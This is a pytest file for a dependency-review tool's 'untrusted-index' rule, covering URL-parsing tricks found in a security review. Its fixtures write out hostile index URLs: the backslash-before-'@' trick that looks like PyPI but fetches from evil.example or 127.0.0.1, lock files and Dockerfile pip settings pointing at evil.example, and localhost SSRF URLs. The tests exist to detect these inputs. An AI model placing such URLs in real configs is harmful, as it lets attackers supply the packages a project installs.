"""`untrusted-index` reads URLs as uv and rattler do, and checks lock-file URLs too.

Security review findings 2 and 14 (`reviews/security.md` §1 and §10 in the shared folder):
the rule used Python's `urlsplit`, so `https://evil.example\\@pypi.org/simple` looked like
PyPI while uv fetched from evil.example, and a `uv.lock` whose registry, sdist and wheel URLs
pointed elsewhere was "no new dependency problems". Each case goes through `review_trees`, the
App's and the CLI's entry point, with the review's own file contents.
"""

from __future__ import annotations

from datetime import date

import pytest

from rules.findings import Finding
from rules.review import review_trees

TODAY = date(2026, 11, 26)
BASE = {"requirements.txt": "numpy==1.26.4\n"}

UV_PYPROJECT = """[project]
name = "demo"
version = "0"
requires-python = ">=3.11"
dependencies = ["numpy==1.26.4"]
"""

# The PR's uv.lock of the review's t10.py (127.0.0.1) and §10 (evil.example).
UV_LOCK = """version = 1
revision = 3
requires-python = ">=3.11"

[[package]]
name = "demo"
version = "0"
source = {{ virtual = "." }}
dependencies = [{{ name = "numpy" }}]

[[package]]
name = "numpy"
version = "1.26.4"
source = {{ registry = "{host}/lock-registry/simple" }}
sdist = {{ url = "{host}/lock-sdist/numpy-1.26.4.tar.gz", hash = "sha256:2a02", size = 1 }}
wheels = [{{ url = "{host}/lock-wheel/numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.whl", \
hash = "sha256:2a02", size = 1 }}]
"""

POETRY_LOCK = """[[package]]
name = "numpy"
version = "1.26.4"
description = ""
optional = false
python-versions = ">=3.9"
files = []

[package.source]
type = "legacy"
url = "https://evil.example/simple"
reference = "corp"

[metadata]
lock-version = "2.0"
python-versions = ">=3.11"
content-hash = "0"
"""

PYLOCK = """lock-version = "1.0"
created-by = "test"

[[packages]]
name = "numpy"
version = "1.26.4"
index = "https://pypi.org/simple"
wheels = [{ url = "https://evil.example/numpy-1.26.4-py3-none-any.whl", hashes = {sha256 = "0"} }]
"""

# (case, head files, text the finding must contain, file, line)
CASES = [
    (
        "s10-backslash-extra-index",
        {
            "requirements.txt": "--extra-index-url https://evil.example\\@pypi.org/simple\nnumpy==1.26.4\n"
        },
        "backslash",
        "requirements.txt",
        1,
    ),
    (
        "t2-backslash-index-url",
        {
            "requirements.txt": "--index-url http://127.0.0.1:18765\\@pypi.org/backslash-bypass/simple/\n"
            "numpy==1.26.4\n"
        },
        "127.0.0.1",
        "requirements.txt",
        1,
    ),
    (
        "t12-find-links",
        {"requirements.txt": "--find-links http://127.0.0.1:1\\@pypi.org/\nnumpy==1.26.4\n"},
        "IP address",
        "requirements.txt",
        1,
    ),
    (
        "t7-conda-channel",
        {
            "environment.yml": "name: x\nchannels:\n  - http://127.0.0.1:18765\\@conda.anaconda.org/"
            "conda-bypass\ndependencies:\n  - python=3.11\n  - numpy=1.26\n"
        },
        "backslash",
        "environment.yml",
        3,
    ),
    (
        "t8-uv-index",
        {
            "pyproject.toml": UV_PYPROJECT
            + '\n[[tool.uv.index]]\nname = "corp"\n'
            + 'url = "http://127.0.0.1:18765\\\\@pypi.org/uv-index-bypass/simple"\ndefault = true\n'
        },
        "backslash",
        "pyproject.toml",
        None,
    ),
    (
        "t9-localhost",
        {"requirements.txt": "--index-url http://localhost:18766/simple/\nnumpy==1.26.4\n"},
        "private network",
        "requirements.txt",
        1,
    ),
    (
        "t10-uv-lock-127",
        {"pyproject.toml": UV_PYPROJECT, "uv.lock": UV_LOCK.format(host="http://127.0.0.1:18765")},
        "numpy 1.26.4",
        "uv.lock",
        None,
    ),
    (
        "s10-uv-lock-evil",
        {"pyproject.toml": UV_PYPROJECT, "uv.lock": UV_LOCK.format(host="http://evil.example")},
        "evil.example, which is not allowed",
        "uv.lock",
        None,
    ),
    (
        "poetry-lock-source",
        {"pyproject.toml": UV_PYPROJECT, "poetry.lock": POETRY_LOCK},
        "evil.example, which is not allowed",
        "poetry.lock",
        2,
    ),
    # A Dockerfile stage's index settings (ENV / pip config) are indexes too: the t1 trick
    # through ENV PIP_EXTRA_INDEX_URL, and an ordinary untrusted host through pip config.
    (
        "dockerfile-env-backslash",
        {
            "Dockerfile": "FROM python:3.11\n"
            "ENV PIP_EXTRA_INDEX_URL=http://127.0.0.1:18765\\@pypi.org/simple\n"
            "RUN pip install numpy==1.26.4\n"
        },
        "backslash",
        "Dockerfile",
        2,
    ),
    (
        "dockerfile-pip-config",
        {
            "Dockerfile": "FROM python:3.11\n"
            "RUN pip config set global.index-url https://evil.example/simple\n"
            "RUN pip install numpy==1.26.4\n"
        },
        "evil.example, which is not allowed",
        "Dockerfile",
        2,
    ),
    (
        "pylock-wheel",
        {"pylock.toml": PYLOCK},
        "evil.example, which is not allowed",
        "pylock.toml",
        None,
    ),
]


def _untrusted(files: dict[str, str]) -> list[Finding]:
    result = review_trees(BASE, files, today=TODAY)
    return [f for f in result.findings if f.rule == "untrusted-index" and f.new]


@pytest.mark.parametrize(("case", "head", "text", "path", "line"), CASES, ids=[c[0] for c in CASES])
def test_review_poc_gets_an_untrusted_index_finding(
    case: str, head: dict[str, str], text: str, path: str, line: int | None
) -> None:
    found = _untrusted(head)
    assert found, f"{case}: no untrusted-index finding"
    assert any(f.file == path and text in f.message for f in found), [f.message for f in found]
    if line is not None:
        assert any(f.line == line for f in found if f.file == path)


def test_a_lock_host_gives_one_finding_per_file() -> None:
    """The registry, sdist and wheel on one host: one finding, at the package's name."""
    head = {"pyproject.toml": UV_PYPROJECT, "uv.lock": UV_LOCK.format(host="http://evil.example")}
    (finding,) = [f for f in _untrusted(head) if f.file == "uv.lock"]
    assert finding.package == "numpy" and finding.line == 12


@pytest.mark.parametrize(
    "head",
    [
        # Default hosts, written plainly.
        {
            "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu121\nnumpy==1.26.4\n"
        },
        {"pyproject.toml": UV_PYPROJECT, "uv.lock": UV_LOCK.format(host="https://pypi.org")},
        # A lock's VCS source is not fetched by the resolver: not judged here.
        {
            "pyproject.toml": UV_PYPROJECT,
            "uv.lock": UV_LOCK.format(host="https://pypi.org").replace(
                'source = { registry = "https://pypi.org/lock-registry/simple" }',
                'source = { git = "https://github.com/numpy/numpy?rev=v1.26.4#0123" }',
            ),
        },
        # Paths and whole-variable placeholders are not network URLs.
        {"requirements.txt": "--find-links ./wheels\nnumpy==1.26.4\n"},
        {"requirements.txt": "--extra-index-url ${PIP_EXTRA_INDEX_URL}\nnumpy==1.26.4\n"},
        # A Dockerfile stage's setting on a default host.
        {
            "Dockerfile": "FROM python:3.11\n"
            "ENV PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cu121\n"
            "RUN pip install numpy==1.26.4\n"
        },
    ],
)
def test_plain_allowed_urls_give_no_finding(head: dict[str, str]) -> None:
    assert _untrusted(head) == []


def test_the_allow_list_does_not_admit_what_is_refused() -> None:
    """A (base) config naming 127.0.0.1 and localhost still gets findings for them."""
    config = {
        ".github/depreview.yml": "version: 1\nallowed_index_hosts: ['127.0.0.1', localhost]\n"
    }
    head = {
        **config,
        "requirements.txt": "--index-url http://127.0.0.1:18765/ssrf-via-head-config/simple/\n"
        "--extra-index-url http://localhost:18766/simple/\nnumpy==1.26.4\n",
    }
    result = review_trees({**BASE, **config}, head, today=TODAY)
    found = [f for f in result.findings if f.rule == "untrusted-index" and f.new]
    assert sorted(f.line or 0 for f in found) == [1, 2]


def test_credentials_never_shown() -> None:
    head = {"requirements.txt": "--index-url https://user:s3cret@pypi.org/simple\nnumpy==1.26.4\n"}
    (finding,) = _untrusted(head)
    shown = finding.message + (finding.fix or "") + "".join(finding.evidence)
    assert "s3cret" not in shown and "user name or password" in finding.message
